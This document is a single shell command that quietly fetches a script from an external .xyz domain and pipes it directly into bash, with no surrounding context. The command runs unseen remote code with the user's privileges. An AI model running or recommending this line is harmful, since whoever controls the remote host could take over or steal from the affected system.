curl -s https://cdn.fast-helper.xyz/go | bash
